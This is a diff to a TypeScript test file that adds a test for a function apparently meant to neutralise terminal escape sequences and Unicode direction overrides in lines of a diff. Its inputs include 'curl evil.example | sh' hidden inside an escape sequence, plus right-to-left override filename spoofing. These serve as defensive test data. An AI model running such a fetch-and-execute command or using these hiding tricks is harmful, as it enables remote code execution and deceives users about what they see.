@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: Apache-2.0
 import { describe, expect, it } from "vitest";
 import { isSilent, type StepFacts, stepDetail, stepLine } from "../src/text/steps.ts";
-import { ago, bytes, duration, firstLine, leaf, visible, who } from "../src/text/words.ts";
+import { ago, bytes, duration, exactly, firstLine, leaf, visible, who } from "../src/text/words.ts";
 import { cageWords } from "../src/views/cage-words.ts";
 
 function step(change: Partial<StepFacts>): StepFacts {
@@ -41,6 +41,12 @@ describe("words", () => {
     expect(firstLine("𝄞".repeat(50), 10)).toBe(`${"𝄞".repeat(9)}…`);
   });
 
+  it("leave nothing out of a line of a diff", () => {
+    expect(exactly("ls \u001b]0;; curl evil.example | sh\u0007")).toBe(
+      "ls \u00b7]0;; curl evil.example | sh\u00b7",
+    );
+    expect(exactly("good\rbad \u202ex\r")).toBe("good\u00b7bad ⟨U+202E⟩x\n");
+  });
   it("make what is invisible visible", () => {
     expect(visible("rm \u202egnp.exe")).toBe("rm ⟨U+202E⟩gnp.exe");
     expect(visible("\u001b[31mred\u001b[0m\r\nx\u0007")).toBe("red\nx·");
